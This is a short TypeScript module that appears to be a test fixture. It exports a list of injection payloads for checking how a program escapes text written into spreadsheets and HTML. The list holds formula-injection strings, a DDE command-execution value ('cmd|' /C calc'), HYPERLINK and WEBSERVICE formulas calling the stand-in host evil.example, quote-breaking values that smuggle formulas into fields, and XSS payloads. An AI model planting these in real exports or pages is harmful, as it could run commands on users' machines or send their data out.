/** Texts that become something else where a program takes them for more than texts. */
export const PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '\u200B=1+1',
  '=HYPERLINK("http://evil.example","点我")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example")',
  '甲"&HYPERLINK("http://evil.example")&"',
  "甲'!A1+cmd|'x'!A0+'",
  '甲");HYPERLINK("http://evil.example',
  '<a href="http://evil.example">甲</a>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&amp;HYPERLINK',
];

/** A sheet's title holds none of `: \ / ? * [ ]`. */
export const TITLE = "=甲'!A1+cmd|'数据";
